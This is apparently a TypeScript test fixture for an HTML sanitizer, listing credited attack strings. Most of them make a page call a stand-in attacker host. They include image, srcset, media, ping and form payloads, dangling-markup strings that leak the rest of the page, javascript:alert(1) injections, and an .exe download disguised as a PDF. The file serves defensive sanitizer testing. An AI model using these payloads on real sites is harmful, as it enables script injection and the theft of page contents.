import type { Attack } from './attack';

/** What asks another site, tells it something, or swallows the page to send it. */
export const requests: readonly Attack[] = [
  ['a picture over http', '<img src="http://attacker.example/p.png" alt="x">', 'ours'],
  [
    'a picture over ftp',
    '<img src="ftp://attacker.example/p.png"><img src="http://attacker.example/q.png">',
    'ours',
  ],
  [
    'a picture with credentials',
    '<img src="https://user:secret@attacker.example/p.png"><img src="http://a:b@attacker.example/">',
    'ours',
  ],
  [
    'candidates over http',
    '<img src="https://pictures.example/a.png" srcset="https://pictures.example/b.png 1x, http://attacker.example/p.png 2x" alt="x"><img srcset="http://attacker.example/p.png 1x">',
    'html5sec',
  ],
  [
    'candidates of script',
    '<img srcset="javascript:alert(1) 1x, x 2x" onerror=alert(1)>',
    'html5sec',
  ],
  [
    'candidates with a comma',
    '<img src="https://pictures.example/a.png" srcset=",javascript:alert(1) 1x, ,data:text/html,x 2x" onerror=alert(1)>',
    'sanitize-html',
  ],
  [
    'candidates of a preload',
    '<link rel=preload as=image imagesrcset="http://attacker.example/p.png 1x">',
    'PortSwigger',
  ],
  [
    'a source of a picture',
    '<picture><source srcset="http://attacker.example/p.png"><img src="https://pictures.example/a.png" alt="x"></picture>',
    'html5sec',
  ],
  [
    'a poster',
    '<video poster="http://attacker.example/p.png" src="https://films.example/a.mp4"></video>',
    'html5sec',
  ],
  ['a film', '<video src="https://attacker.example/a.mp4" autoplay></video>', 'html5sec'],
  ['a recording', '<audio src="https://attacker.example/a.mp3" autoplay></audio>', 'html5sec'],
  [
    'subtitles',
    '<video controls src="https://films.example/a.mp4"><track default src="https://attacker.example/s.vtt"></video>',
    'html5sec',
  ],
  ['a ping', '<a href="#" ping="https://attacker.example/ping">x</a>', 'html5sec'],
  [
    'attribution',
    '<a href="#" attributionsrc="https://attacker.example/"><img src=x attributionsrc="https://attacker.example/r"></a><img src=http://attacker.example/>',
    'PortSwigger',
  ],
  ['an input that is a picture', '<input type=image src="http://attacker.example/p">', 'html5sec'],
  ['a body with a background', '<body background="http://attacker.example/p">x', 'OWASP'],
  [
    'a cell with a background',
    '<table><td background="http://attacker.example/p">x</table>',
    'OWASP',
  ],
  ['a picture that swallows the page', '<p>x</p><img src="http://attacker.example/?', 'Zalewski'],
  [
    'a picture that swallows the page, in single quotes',
    "<p>x</p><img src='http://attacker.example/?",
    'Zalewski',
  ],
  ['a link that swallows the page', '<p>x</p><a href="https://attacker.example/?', 'Zalewski'],
  [
    'a target that swallows the page',
    '<a href="https://attacker.example/">x</a><base target=\'',
    'Zalewski',
  ],
  [
    'a text area that swallows the page',
    '<form action="https://attacker.example/"><button>x</button><textarea name=t>',
    'Zalewski',
  ],
  [
    'an option that swallows the page',
    '<form action="https://attacker.example/"><input type=submit><select name=t><option>',
    'Zalewski',
  ],
  ['a style that swallows the page', '<style>@import "https://attacker.example/?', 'Zalewski'],
  ['a frame that swallows the page', '<iframe src="https://attacker.example/?', 'Zalewski'],
  ['a comment that swallows the page', '<p>x</p><!-- ', 'Zalewski'],
  [
    'a link to a window of ours',
    '<a href="https://attacker.example/" target="_self" rel="opener">x</a>',
    'ours',
  ],
  [
    'a download',
    '<a href="https://attacker.example/x.exe" download="contrat.pdf" target=_top>x</a>',
    'PortSwigger',
  ],
];
